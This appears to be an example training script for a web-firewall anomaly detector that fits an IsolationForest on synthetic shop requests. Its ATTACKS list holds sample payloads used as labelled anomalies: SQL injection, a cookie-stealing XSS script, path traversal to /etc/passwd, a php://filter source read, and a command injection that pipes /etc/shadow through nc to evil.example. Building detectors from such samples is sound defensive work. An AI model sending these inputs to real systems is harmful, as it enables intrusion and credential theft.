#!/usr/bin/python3
"""Trains an IsolationForest on waf-v1 features of benign requests and writes it to saved_models/.

Run from the repository root:  /usr/bin/python3 examples/sklearn-iforest/train.py

Pinned: Debian bookworm python3-sklearn 1.2.1, python3-joblib, python3-numpy 1.24.2. Features come
from examples/python/crs_ml_features.py, the Python twin of the server's `waf-v1` extractor, so the
model sees at serving time exactly the numbers it was trained on.

The traffic is synthetic (a small shop: pages, search, products, logins, uploads); replace
`benign_requests()` with your own logged requests (one parsed request per line, as the server's
`parse` command prints them) to train on real traffic.

Writes saved_models/iforest.joblib, saved_models/manifest.json and saved_models/expected.json
(scikit-learn's own decision_function for a few benign and attack requests, checked by
test/examples/sklearn-iforest.test.ts).
"""
import json
import os
import sys

import joblib
import numpy as np
import sklearn
from sklearn.ensemble import IsolationForest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, '..', 'python'))
from crs_ml_features import extract  # noqa: E402

OUT = os.path.join(HERE, 'saved_models')
RNG = np.random.default_rng(11)
WORDS = 'shoes jacket summer red blue sale gift card socks boots scarf wool cotton kids women men'.split()
ATTACKS = [
    ('GET', '/search', {'q': "' or 1=1 --"}),
    ('GET', '/search', {'q': '1 union select username, password from users'}),
    ('GET', '/product', {'id': '1; drop table products'}),
    ('GET', '/search', {'q': '<script>alert(document.cookie)</script>'}),
    ('GET', '/download', {'file': '../../../../etc/passwd'}),
    ('POST', '/login', {'user': 'admin', 'pass': "' or ''='"}),
    ('GET', '/ping', {'host': '127.0.0.1; cat /etc/shadow | nc evil.example 4444'}),
    ('GET', '/index.php', {'page': 'php://filter/convert.base64-encode/resource=index.php'}),
]


def request(method, path, args, hour=None, files=()):
    return {
        'method': method, 'path': path, 'args': [('ARGS:' + k, v) for k, v in args.items()],
        'files': [('FILES:' + k, v) for k, v, _ in files], 'sizes': [('FILES_SIZES:' + k, s) for k, _, s in files],
        'hour': int(RNG.integers(0, 24)) if hour is None else hour, 'day': int(RNG.integers(1, 29)),
    }


def benign_requests(n):
    out = []
    for _ in range(n):
        kind = RNG.integers(6)
        if kind == 0:
            out.append(request('GET', '/', {}))
        elif kind == 1:
            out.append(request('GET', '/search', {'q': ' '.join(RNG.choice(WORDS, size=RNG.integers(1, 4))), 'page': str(RNG.integers(1, 9))}))
        elif kind == 2:
            out.append(request('GET', '/product', {'id': str(RNG.integers(1, 5000)), 'color': str(RNG.choice(WORDS[3:5]))}))
        elif kind == 3:
            out.append(request('POST', '/login', {'user': f'{RNG.choice(WORDS)}{RNG.integers(1, 99)}', 'pass': ''.join(RNG.choice(list('abcdefgh12345'), size=10))}))
        elif kind == 4:
            out.append(request('GET', f'/static/{RNG.choice(["app.js", "site.css", "logo.png"])}', {}))
        else:
            out.append(request('POST', '/account/avatar', {'name': str(RNG.choice(WORDS))},
                               files=[('avatar', f'{RNG.choice(WORDS)}.jpg', int(RNG.integers(1000, 200000)))]))
    return out


def main():
    # Logged traffic is never clean, and an IsolationForest only splits on features that vary in its
    # training data: a feature that is always 0 in benign traffic (SQL words, quotes) would be
    # invisible to it. So, like real logs, the training set holds about 2% attacks.
    train = benign_requests(2000) + [request(*ATTACKS[i % len(ATTACKS)]) for i in range(40)]
    x = np.array([extract(r) for r in train])
    # Small forest, small subsamples: the joblib file stays in the hundreds of KB.
    model = IsolationForest(n_estimators=50, max_samples=128, random_state=0).fit(x)
    benign_scores = model.decision_function(x[:2000])
    threshold = float(np.quantile(benign_scores, 0.01))  # about 1% false positives on the training traffic
    os.makedirs(OUT, exist_ok=True)
    joblib.dump(model, os.path.join(OUT, 'iforest.joblib'), compress=3)

    samples = benign_requests(6) + [request(m, p, a, hour=3) for m, p, a in ATTACKS]
    scores = model.decision_function(np.array([extract(r) for r in samples]))
    with open(os.path.join(OUT, 'expected.json'), 'w') as f:
        json.dump({'sklearn': sklearn.__version__, 'threshold': threshold,
                   'requests': [{**r, 'args': dict(r['args']), 'files': dict(r['files']), 'sizes': dict(r['sizes'])} for r in samples],
                   'attack': [False] * 6 + [True] * len(ATTACKS), 'decision_function': [float(s) for s in scores]}, f, indent=1)
        f.write('\n')
    with open(os.path.join(OUT, 'manifest.json'), 'w') as f:
        json.dump({'name': 'iforest-waf-v1', 'adapter': 'sklearn', 'model': 'iforest.joblib', 'output': 'decision_function',
                   'threshold': round(threshold, 6), 'anomalyWhen': 'below', 'extractor': 'waf-v1'}, f, indent=2)
        f.write('\n')
    caught = int((scores[6:] < threshold).sum())
    print(f'threshold {threshold:.4f}; sample attacks caught {caught}/{len(ATTACKS)}; '
          f'benign flagged {int((scores[:6] < threshold).sum())}/6; file {os.path.getsize(os.path.join(OUT, "iforest.joblib"))} bytes')


if __name__ == '__main__':
    main()
